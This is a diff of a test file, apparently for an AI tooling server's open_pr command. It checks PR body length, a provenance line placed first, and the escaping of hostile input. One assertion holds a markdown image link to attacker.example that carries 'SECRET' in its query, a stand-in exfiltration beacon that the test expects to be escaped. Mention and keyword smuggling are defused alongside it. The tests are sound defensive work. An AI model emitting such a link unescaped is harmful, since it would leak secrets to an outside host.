@@ -57,7 +57,7 @@ beforeEach(() => {
 });
 
 describe('open_pr and GitHub', () => {
-  it("keeps body and footer within GitHub's 65,536 characters, listing the files that fit", async () => {
+  it("keeps provenance and body within GitHub's 65,536 characters, listing the files that fit", async () => {
     const long = 'd'.repeat(200);
     const changes = Array.from({ length: 20 }, (_, i) => ({
       path: `src/${long}/${long}/${long}/${long}/f${i}.mjs`,
@@ -75,9 +75,10 @@ describe('open_pr and GitHub', () => {
     const [sent] = pullRequests();
     const body = sent.body as string;
     expect(body.length).toBeLessThanOrEqual(65_536);
-    expect(body).toMatch(/^b+…\n\n---\n/);
+    // The provenance first, whole; the caller's body after the rule, cut.
+    expect(body).toMatch(/^Opened by devops-mcp \d+\.\d+\.\d+ \(open_pr\)/);
     expect(body).toMatch(/\n- …and \d+ more \(the commit message lists every file\)\n/);
-    expect(body).toMatch(/review before merging\.\*\*$/);
+    expect(body).toMatch(/review before merging\.\*\*\n\n---\n\nb+…$/);
     // Every file is still in the commit message.
     const message = await double.git(
       'acme/app',
@@ -181,7 +182,8 @@ describe('open_pr and GitHub', () => {
     expect(sent.body).toContain('cc @\u200bacme/everyone, F\u200bixes #1, c\u200bloses acme/other#2');
     expect(sent.body).toContain('!\\[x](https://attacker.example/p.png?d=SECRET)');
     expect(sent.body).toContain('<\u200bdetails><\u200bsummary>more<\u200b/summary>');
-    expect(sent.body).toMatch(/\n---\nOpened by devops-mcp/);
+    // The provenance comes first: the open `<details>` could fold nothing of it anyway.
+    expect(sent.body).toMatch(/^Opened by devops-mcp .*\n\n---\n\n\\\[hidden\]/s);
     const message = await double.git(
       'acme/app',
       'log',
